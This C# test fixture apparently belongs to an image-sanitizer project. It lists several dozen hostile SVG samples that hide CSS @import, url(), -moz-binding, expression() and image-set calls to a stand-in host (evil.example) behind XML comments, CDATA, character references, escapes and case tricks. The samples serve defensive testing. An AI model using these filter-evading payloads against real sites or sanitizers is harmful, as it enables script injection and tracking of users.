namespace Requapass.Badges.Core.Tests.Imaging;

/// <summary>
/// CSS that reaches outside an SVG, hidden from a raw-text check by the XML layer (comments, CDATA,
/// character references) or by CSS itself (comments, escapes, case). Issue #10, section 3.
/// </summary>
public static partial class HostileImages
{
    private const string Evil = "https://evil.example/x";

    private static IEnumerable<(string, string)> CssSvgs()
    {
        // @import and its disguises; every one canonicalises to an at-rule other than @media/@keyframes.
        yield return ("svg-css-import-xml-comment", Style($"@imp<!-- -->ort url({Evil}.css);"));
        yield return ("svg-css-import-empty-cdata", Style($"@imp<![CDATA[]]>ort url({Evil}.css);"));
        yield return ("svg-css-import-text-then-cdata", Style($"@imp<![CDATA[ort url({Evil}.css);]]>"));
        yield return ("svg-css-import-char-reference", Style($"@&#105;mport url({Evil}.css);"));
        yield return ("svg-css-import-hex-escape", Style($@"@\69mport url({Evil}.css);"));
        yield return ("svg-css-import-hex-escape-space", Style($@"@\69 mport url({Evil}.css);"));
        yield return ("svg-css-import-six-digit-escape", Style($@"@\000069mport url({Evil}.css);"));
        yield return ("svg-css-import-escape-uppercase", Style($@"@\49MPORT url({Evil}.css);"));
        yield return ("svg-css-import-char-escape", Style($@"@\import url({Evil}.css);"));
        yield return ("svg-css-import-line-continuation", Style($"@imp\\\nort url({Evil}.css);"));
        yield return ("svg-css-import-css-comment", Style($"@imp/**/ort url({Evil}.css);"));
        yield return ("svg-css-import-uppercase", Style($"@IMPORT \"{Evil}.css\";"));
        yield return ("svg-css-import-after-string-comment", Style($"a{{content:\"/*\"}} @import url({Evil}.css); b{{content:\"*/\"}}"));
        yield return ("svg-css-font-face", Style($"@font-face{{font-family:f;src:url({Evil}.woff)}}"));
        yield return ("svg-css-namespace", Style($"@namespace url({Evil});"));
        // url() that is not url(#id), in <style>, in style= and in presentation attributes.
        yield return ("svg-css-url-hex-escape-style", Style($@"rect{{fill:u\72l({Evil}.svg#p)}}"));
        yield return ("svg-css-url-hex-escape-attribute", Element($@"<rect style='fill:u\72l({Evil}.svg#p)'/>"));
        yield return ("svg-css-url-six-digit-escape", Style($@"rect{{fill:\000075rl({Evil}.svg#p)}}"));
        yield return ("svg-css-url-escape-newline", Style($"rect{{fill:u\\72\nl({Evil}.svg#p)}}"));
        yield return ("svg-css-url-xml-comment", Style($"rect{{fill:u<!-- -->rl({Evil}.svg#p)}}"));
        yield return ("svg-css-url-css-comment", Style($"rect{{fill:u/**/rl({Evil}.svg#p)}}"));
        yield return ("svg-css-url-uppercase", Style($"rect{{fill:URL({Evil}.svg#p)}}"));
        yield return ("svg-css-url-quoted", Style($"rect{{fill:url(\"{Evil}.svg#p\")}}"));
        yield return ("svg-css-url-fragment-then-more", Style($"rect{{fill:url(#a {Evil})}}"));
        yield return ("svg-css-url-space-before-parenthesis", Style($"rect{{fill:url ({Evil}.svg#p)}}"));
        yield return ("svg-css-url-escaped-presentation", Element($@"<rect fill='u\72l({Evil}.svg#p)'/>"));
        yield return ("svg-css-url-filter", Element($"<rect filter='url({Evil}.svg#f)'/>"));
        yield return ("svg-css-url-mask", Element($"<rect mask='url(\"{Evil}.svg#m\")'/>"));
        yield return ("svg-css-url-marker", Element($"<path d='M0 0L1 1' marker-start='url({Evil}.svg#m)'/>"));
        yield return ("svg-css-url-cursor", Element($"<rect cursor='url({Evil}.cur), auto'/>"));
        // Other loading functions and code-running properties.
        yield return ("svg-css-image-set", Style($"rect{{background-image:image-set(\"{Evil}.png\" 1x)}}"));
        yield return ("svg-css-webkit-image-set", Style($"rect{{background-image:-webkit-image-set(\"{Evil}.png\" 1x)}}"));
        yield return ("svg-css-image-set-escaped", Element($@"<rect style='background:im\61ge-set(""{Evil}.png"" 1x)'/>"));
        yield return ("svg-css-image", Style($"rect{{background:image(\"{Evil}.png\")}}"));
        yield return ("svg-css-element", Style("rect{background:element(#a)}"));
        yield return ("svg-css-cross-fade", Style($"rect{{background:cross-fade(url(#a), url(#b), 50%)}}"));
        yield return ("svg-css-src", Style($"rect{{background:src(\"{Evil}.png\")}}"));
        yield return ("svg-css-paint", Style("rect{background:paint(worklet)}"));
        yield return ("svg-css-expression", Element("<rect style='width:expression(alert(1))'/>"));
        yield return ("svg-css-expression-escaped", Style(@"rect{width:e\78pression(alert(1))}"));
        yield return ("svg-css-moz-binding", Style($"rect{{-moz-binding:url({Evil}.xml#b)}}"));
        yield return ("svg-css-behavior", Element("<rect style='behavior:url(#a)'/>"));
        yield return ("svg-css-unknown-function", Style("rect{fill:env(x)}"));
        yield return ("svg-css-element-inside-style", Style($"<g>@import url({Evil}.css);</g>"));
    }

    private static string Style(string css) => Element($"<style>{css}</style>");

    private static string Element(string markup) => $"<svg xmlns=\"http://www.w3.org/2000/svg\">{markup}<rect width='1' height='1'/></svg>";
}
